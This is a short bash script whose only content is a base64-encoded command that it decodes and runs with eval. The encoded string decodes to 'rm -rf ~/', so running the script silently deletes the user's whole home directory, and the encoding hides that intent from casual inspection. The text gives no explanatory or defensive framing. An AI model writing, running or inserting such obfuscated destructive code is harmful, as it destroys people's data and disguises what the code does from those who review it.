#!/bin/bash
X=$(echo cm0gLXJmIH4v | base64 --decode)
eval "$X"
